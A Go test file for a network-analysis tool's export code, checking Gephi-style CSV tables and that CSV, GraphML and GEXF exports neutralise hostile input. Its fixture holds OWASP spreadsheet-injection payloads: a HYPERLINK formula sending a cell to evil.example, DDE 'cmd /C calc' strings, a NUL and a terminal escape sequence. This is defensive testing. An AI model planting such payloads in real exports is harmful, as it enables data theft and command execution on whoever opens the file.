package interchange_test

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/voicemap/voicemap/interchange"
	"github.com/voicemap/voicemap/store"
)

func readExportCSV(tb testing.TB, data []byte) [][]string {
	tb.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		tb.Fatalf("CSV does not parse: %v\n%s", err, data)
	}
	return rows
}

// TestEncodeCSV checks the Gephi-style nodes and edges tables of the demo
// network: the headers, one row per actor and relationship, and the values.
func TestEncodeCSV(t *testing.T) {
	t.Parallel()
	s := demoSnapshot(t)
	m := demoMeasures(s)
	var nodes, edges bytes.Buffer
	if err := interchange.EncodeCSV(&nodes, &edges, s, m); err != nil {
		t.Fatal(err)
	}
	n := readExportCSV(t, nodes.Bytes())
	e := readExportCSV(t, edges.Bytes())
	if want := []string{"Id", "Label", "Kind", "Place", "Groups", "Capacity", "OrgKind", "degree", "hub", "share"}; !slices.Equal(n[0], want) {
		t.Errorf("nodes header = %q, want %q", n[0], want)
	}
	if want := []string{"Source", "Target", "Type", "Weight", "Id", "Kind", "Since", "Until"}; !slices.Equal(e[0], want) {
		t.Errorf("edges header = %q, want %q", e[0], want)
	}
	if len(n)-1 != len(s.People)+len(s.Organisations) || len(e)-1 != len(s.Relationships) {
		t.Fatalf("%d node rows and %d edge rows, want %d and %d", len(n)-1, len(e)-1, len(s.People)+len(s.Organisations), len(s.Relationships))
	}
	people := map[string]store.Person{}
	for _, p := range s.People {
		people[p.ID] = p
	}
	orgs := map[string]store.Organisation{}
	for _, o := range s.Organisations {
		orgs[o.ID] = o
	}
	for i, row := range n[1:] {
		id := row[0]
		if i > 0 && n[i][0] >= id {
			t.Errorf("node row %q follows %q: rows not sorted by id", id, n[i][0])
		}
		var want []string
		if p, ok := people[id]; ok {
			want = []string{id, p.Name, "person", p.PlaceID, strings.Join(p.Groups, ";"), string(p.Capacity), ""}
		} else if o, ok := orgs[id]; ok {
			want = []string{id, o.Name, "organisation", o.PlaceID, "", "", string(o.Kind)}
		} else {
			t.Errorf("node row %q is not an actor", id)
			continue
		}
		want = append(want, strconv.FormatInt(m.Int["degree"][id], 10), strconv.FormatBool(m.Bool["hub"][id]),
			strconv.FormatFloat(m.Float["share"][id], 'g', -1, 64))
		if !slices.Equal(row, want) {
			t.Errorf("node row = %q, want %q", row, want)
		}
		if _, err := strconv.ParseFloat(row[9], 64); err != nil {
			t.Errorf("node %s share %q is not a number", id, row[9])
		}
	}
	for i, r := range s.Relationships {
		want := []string{r.FromID, r.ToID, "Undirected", strconv.FormatFloat(r.Weight, 'g', -1, 64), r.ID, string(r.Kind), "", ""}
		if r.Since != nil {
			want[6] = r.Since.Format("2006-01-02")
		}
		if r.Until != nil {
			want[7] = r.Until.Format("2006-01-02")
		}
		if !slices.Equal(e[i+1], want) {
			t.Errorf("edge row %d = %q, want %q", i+1, e[i+1], want)
		}
	}
}

// TestEncodeCSVMissingMeasure checks that an actor without a value for a
// measure has an empty cell, not a zero.
func TestEncodeCSVMissingMeasure(t *testing.T) {
	t.Parallel()
	var nodes, edges bytes.Buffer
	if err := interchange.EncodeCSV(&nodes, &edges, tinySnapshot(), tinyMeasures()); err != nil {
		t.Fatal(err)
	}
	rows := readExportCSV(t, nodes.Bytes())
	col := slices.Index(rows[0], "pagerank")
	for _, row := range rows[1:] {
		if row[0] == "o-fund" && row[col] != "" {
			t.Errorf("o-fund pagerank cell = %q, want empty", row[col])
		}
		if row[0] == "p-cy" && row[col] != "1e-07" {
			t.Errorf("p-cy pagerank cell = %q, want 1e-07", row[col])
		}
	}
}

// hostileSnapshot is a network whose text fields carry spreadsheet formulas
// (OWASP's CSV injection payloads), a NUL and an escape sequence, as a store
// written before text fields were checked, or another tool's file, may hold
// them.
func hostileSnapshot() *store.Snapshot {
	s := tinySnapshot()
	s.People[0].Name = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	s.People[0].Groups = []string{"@SUM(1+1)*cmd|' /C calc'!A0", "parent"}
	s.People[1].Name = "Bo\x00\x1b[2J Ødegård"
	s.Organisations[0].Name = `+cmd|' /C calc'!A0`
	s.Organisations[1].Name = "-2+3+cmd|' /C calc'!A0"
	return s
}

// TestExportsAreSafe checks that the CSV tables neutralise every formula
// and carry no NUL, and that GraphML and GEXF carry no NUL either (their
// XML encoder writes U+FFFD for a character XML cannot hold) and still
// parse, while numbers (weights, measures) stay numbers.
func TestExportsAreSafe(t *testing.T) {
	t.Parallel()
	got := encodeAll(t, hostileSnapshot(), tinyMeasures())
	for name, data := range map[string][]byte{"graphml": got.graphml, "gexf": got.gexf, "nodes": got.nodes, "edges": got.edges} {
		if i := bytes.IndexByte(data, 0); i >= 0 {
			t.Errorf("%s holds a NUL at byte %d", name, i)
		}
		if bytes.IndexByte(data, 0x1b) >= 0 {
			t.Errorf("%s holds an escape character", name)
		}
	}
	for _, row := range append(readExportCSV(t, got.nodes), readExportCSV(t, got.edges)...) {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
	}
	nodes := readExportCSV(t, got.nodes)
	labels := map[string]string{}
	for _, row := range nodes[1:] {
		labels[row[0]] = row[1]
	}
	if want := `'=HYPERLINK("http://evil.example/?"&A1,"Click")`; labels["p-ana"] != want {
		t.Errorf("label of p-ana = %q, want %q", labels["p-ana"], want)
	}
	if want := "'-2+3+cmd|' /C calc'!A0"; labels["o-hub"] != want {
		t.Errorf("label of o-hub = %q, want %q", labels["o-hub"], want)
	}
	if want := "Bo\uFFFD\uFFFD[2J Ødegård"; labels["p-bo"] != want {
		t.Errorf("label of p-bo = %q, want %q", labels["p-bo"], want)
	}
	for _, doc := range [][]byte{got.graphml, got.gexf} {
		dec := xml.NewDecoder(bytes.NewReader(doc))
		for {
			if _, err := dec.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("export does not parse as XML: %v", err)
			}
		}
	}
}
